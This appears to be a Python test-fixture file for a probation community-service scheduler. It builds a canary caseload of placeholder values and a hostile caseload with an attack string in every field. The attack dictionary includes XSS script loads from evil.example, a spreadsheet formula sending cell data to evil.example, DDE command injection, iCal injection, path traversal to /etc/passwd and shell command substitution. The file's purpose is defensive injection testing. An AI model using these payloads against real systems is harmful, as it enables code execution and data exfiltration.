"""Caseloads for the privacy tests: one in which every value is a canary, one in which every text is
an attack. Both can be rostered, and use every field of docs/format.md."""

import copy
import re

# A canary is its class and a number: "Qzname3". Classes are the columns of allowed.py.


def point(n):
    return {"lat": 53.5 + n * 0.0012347, "lon": -2.3 - n * 0.0012351}


def window(days="MO TU WE TH FR SA", start="07:00", end="21:00"):
    return {"days": days.split(), "from": start, "to": end}


def order(event, **more):
    return {"event": event, "sentence_date": "2025-11-03", "ordered_minutes": 6000,
            "worked_minutes": 600, "x-court": "Qznote1", **more}


def person(n, **more):
    limited = more.get("limited_access")
    return {
        "crn": f"Qz{'lcrn' if limited else 'crn'}{n}", "name": f"Qz{'lname' if limited else 'name'}{n}",
        "gender": "male", "placement": ["mixed_group", "individual"], "home": f"Qzhome{n % 3}",
        "travel_modes": ["walk", "car", "public_transport"], "orders": [order(f"Qzevent{n}")],
        "inducted_on": "2025-11-10", "available": [window()],
        "unavailable": [{"from": "2026-03-20", "to": "2026-03-21", "reason": f"Qzreason{n}"}],
        "x-date_of_birth": "Qznote1987-06-05", "x-offence": {"Qznote2": ["Qznote3"]}, **more,
    }


def people():
    return [
        person(1, must_avoid=["x-Qzavoid1"], keep_apart=["Qzcrn2"], supervisor_gender="male"),
        person(2, needs=["x-Qzneed1"], prefers=["QzprojectA"], wants_ete=True,
               allocations=[{"project": "QzprojectA", "days": ["TU"], "from": "2025-12-01"}]),
        person(3, gender="female", consents_alone=True, barred_projects=["QzprojectB"],
               intensive={"agreed": True, "target_minutes": 1260}),
        person(4, limited_access=True, barred_places=["QzsiteB"], keep_apart=["Qzcrn1"]),
        person(5, limited_access=True, home=point(77), travel_modes=["car"]),
        person(6, available=[window("SU")]),  # nothing suits: unplaced
        person(7, home=None, orders=[order("Qzevent7", sentence_date="2025-01-10")]),  # overdue
        person(8, gender="other", may_join_women_only=True, placement=["women_only"],
               orders=[order("Qzevent8"), order("Qzevent88", runs={"after": "Qzevent8"})]),
        person(9, inducted_on="2025-12-01", attendance=90, weekly_max_minutes=1200,
               orders=[order("Qzevent9", deadline="2026-03-20")]),
        person(10, orders=[order("Qzevent10", worked_minutes=0, sentence_date="2026-01-20")]),
    ]


def session(name, day, start, minutes, places=4, **more):
    return {"id": f"Qzsession{name}", "start": f"2026-01-{day:02}T{start}", "minutes": minutes,
            "rrule": "FREQ=WEEKLY", "places": places, "x-key": "Qznote4", **more}


def project(name, kind, sessions, **more):
    return {"code": f"Qzproject{name}", "name": f"Qzpname{name}", "type": kind,
            "place": f"Qzsite{name}", "beneficiary": f"Qzbeneficiary{name}", "quality": 3,
            "sessions": sessions, "x-note": "Qznote5", **more}


def projects():
    return [
        project("A", "group", [session("A", 6, "09:30", 420, exdates=["2026-01-13"]),
                               session("A2", 8, "09:30", 420, overrides=[
                                   {"date": "2026-03-05", "supervisor": "Qzsupervisor1"}])],
                tags=["x-Qztag1", "x-Qzavoid1"], offers=["x-Qzneed1", "x-Qzoffer1"]),
        project("B", "individual", [session("B", 7, "10:00", 300, 2)], offers=["x-Qzneed1"]),
        project("C", "group", [session("C", 9, "09:30", 420, min_group=1)], women_only=True),
        project("D", "ete", [session("D", 7, "16:00", 180)]),
        project("E", "induction", [session("E", 6, "17:00", 120, supervised=False)]),
        project("F", "group", [session("F", 10, "09:30", 420, overrides=[
            {"date": "2026-03-07", "cancelled": True}])]),
    ]


def appointment(crn, event, name, date, start, minutes, state, **more):
    return {"crn": crn, "event": event, "session": f"Qzsession{name}", "date": date, "start": start,
            "minutes": minutes, "state": state, "supervisor": "Qzsupervisor1", **more}


def canary():
    homes = [{"id": f"Qzhome{n}", "name": f"Qzhomename{n}", "address": f"Qzhomeaddress{n}\nBury",
              **point(n)} for n in range(3)]
    sites = [{"id": f"Qzsite{c}", "name": f"Qzsitename{c}", "address": f"Qzsiteaddress{c}, Bury",
              **point(20 + n)} for n, c in enumerate("ABCDEF")]
    return {
        "format": "amends-caseload/1", "as_of": "2026-03-03", "x-unit": "Qznote6",
        "window": {"from": "2026-03-02", "weeks": 1}, "division": "Qznote7", "bank_holidays": [],
        "policy": {"lone_woman": "soft"}, "places": homes + sites, "people": people(),
        "projects": projects(),
        "supervisors": [
            {"code": f"Qzsupervisor{n}", "name": f"Qzsupname{n}", "gender": gender,
             "available": [window()], "group_limit": 6,
             "unavailable": [{"from": "2026-03-28", "to": "2026-03-29", "reason": "Qzreason99"}]}
            for n, gender in ((1, "male"), (2, "female"))],
        "travel": [{"mode": "public_transport", "direction": "both", "from": ["Qzhome0", "Qzhome1"],
                    "to": ["QzsiteA", "QzsiteB"], "minutes": [[31, None], [42, 53]],
                    "x-source": "Qznote8"}],
        "appointments": [
            appointment("Qzcrn1", "Qzevent1", "A", "2026-02-24", "09:30", 420, "attended"),
            appointment("Qzcrn2", "Qzevent2", "A", "2026-03-03", "09:30", 420, "booked", pinned=True),
            # fixed although it is barred: an accepted breach of R13
            appointment("Qzlcrn4", "Qzevent4", "B", "2026-03-04", "10:00", 300, "booked", pinned=True),
        ],
        "published": {"appointments": [{"crn": "Qzcrn9", "session": "QzsessionA2", "date": "2026-03-05"},
                                       {"crn": "Qzlcrn5", "session": "QzsessionA2", "date": "2026-03-05"}],
                      "sessions": [{"session": "QzsessionA2", "date": "2026-03-05",
                                    "supervisor": "Qzsupervisor2"}]},
        "waivers": [{"rule": "R13", "crn": "Qzcrn3", "project": "QzprojectB", "by": "Qzby1"}],
    }


# ---- texts that attack ----

ATTACKS = {
    "html": "<script src=//evil.example/x.js>document.title='ran'</script><img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=\"document.title='ran'\" style='background:url(//evil.example/b)",
    "entity": "&lt;script&gt;&#x3c;script&#62;",
    "close": "</title></style></td></table><iframe src=javascript:document.title='ran'>",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0", "minus": "-2+3", "at": "@SUM(A1)",
    "wide": "\uff1d1+1", "quote": "\",\"=1+1", "semicolon": "a;=1+1",
    "ical": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:http://evil.example/\r\nX:",
    "fold": "x\n ATTENDEE:mailto:a@evil.example", "escape": "a\\nb\\,c;d,e\\",
    "bidi": "\u202egnp.exe\u2066", "control": "\u0007\u001b]0;ran\u0007", "next": "\u0085\u2028x",
    "path": "../../../../tmp/amends-escaped", "root": "/etc/passwd", "dots": "..", "dot": ".",
    "reserved": "CON", "device": "nul.txt", "trailing": "x.", "hidden": ".hidden", "option": "-rf",
    "drive": "C:\\x", "stream": "x::$DATA", "percent": "%2e%2e%2f%00", "format": "%s%n%1$s",
    "long": "L" * 100, "nfc": "caf\u00e9", "nfd": "cafe\u0301", "twin": "Twin", "Twin": "tWIN",
    "emoji": "\U0001f469\u200d\u2696\ufe0f", "json": "\"}],\"people\":[{\"crn\":\"X\"}]",
    "shell": "$(touch /tmp/amends-ran)`id`;true", "xml": "]]><!--", "tilde": "~root",
}


def id_of(text):
    """The attack as an id: no characters that control, no spaces around, 100 characters."""
    return re.sub("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]", "",
                  text).strip()[:100]


def text_map(value, change, key=None):
    """The value with every text of its own (names and notes, not dates and words) changed."""
    if isinstance(value, dict):
        return {k: text_map(v, change, k) for k, v in value.items()}
    if isinstance(value, list):
        return [text_map(v, change, key) for v in value]
    return change(value) if isinstance(value, str) and "Qz" in value else value


FREE = ("name", "lname", "homename", "homeaddress", "sitename", "siteaddress", "pname",
        "beneficiary", "reason", "supname", "by", "note")


def hostile():
    """The canary caseload with an attack for every id and every text, each id another."""
    attacks, ids = list(ATTACKS.values()), {}
    used = set()

    def change(text):
        bare = text[2:] if text.startswith("Qz") else text[4:]  # x-Qz...
        kind = bare.rstrip("0123456789ABCDEF").rstrip("-")
        if text not in ids:
            n = len(ids)
            attack = attacks[n % len(attacks)]
            if not any(kind.startswith(f) for f in FREE):
                attack = ("x-" if text.startswith("x-") else "") + id_of(attack)
                while (kind, attack) in used:  # unique among its kind
                    n += 1
                    attack = ("x-" if text.startswith("x-") else "") + id_of(attacks[n % len(attacks)])
                used.add((kind, attack))
            ids[text] = attack
        return ids[text]

    caseload = text_map(copy.deepcopy(canary()), change)
    # a project, a supervisor and a session for every attack: each makes names of files
    for n, attack in enumerate(attacks):
        code = id_of(attack)
        if all(p["code"] != code for p in caseload["projects"]):
            caseload["projects"].append({
                "code": code, "name": attack, "type": "individual", "beneficiary": attack,
                "place": caseload["places"][3]["id"],
                "sessions": [{"id": f"{n}{code}"[:100].strip(), "start": "2026-03-06T09:30",
                              "minutes": 300, "places": 2, "min_group": 1}]})
        if all(s["code"] != code for s in caseload["supervisors"]):
            caseload["supervisors"].append({"code": code, "name": attack, "available": [window("SU")],
                                            "group_limit": 2})
        if all(p["crn"] != code for p in caseload["people"]):
            caseload["people"].append({**copy.deepcopy(caseload["people"][9]), "crn": code,
                                       "name": attack, "keep_apart": []})
    return caseload
